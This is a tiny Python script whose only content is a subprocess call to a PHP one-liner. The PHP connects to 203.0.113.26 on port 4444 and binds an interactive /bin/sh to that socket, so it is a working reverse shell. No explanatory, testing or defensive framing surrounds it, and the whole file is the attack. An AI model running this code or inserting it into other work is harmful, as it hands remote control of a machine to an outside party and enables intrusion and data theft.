import subprocess
subprocess.run(["php", "-r", '$s=fsockopen("203.0.113.26",4444);$p=proc_open("/bin/sh -i",array(0=>$s,1=>$s,2=>$s),$x);'])
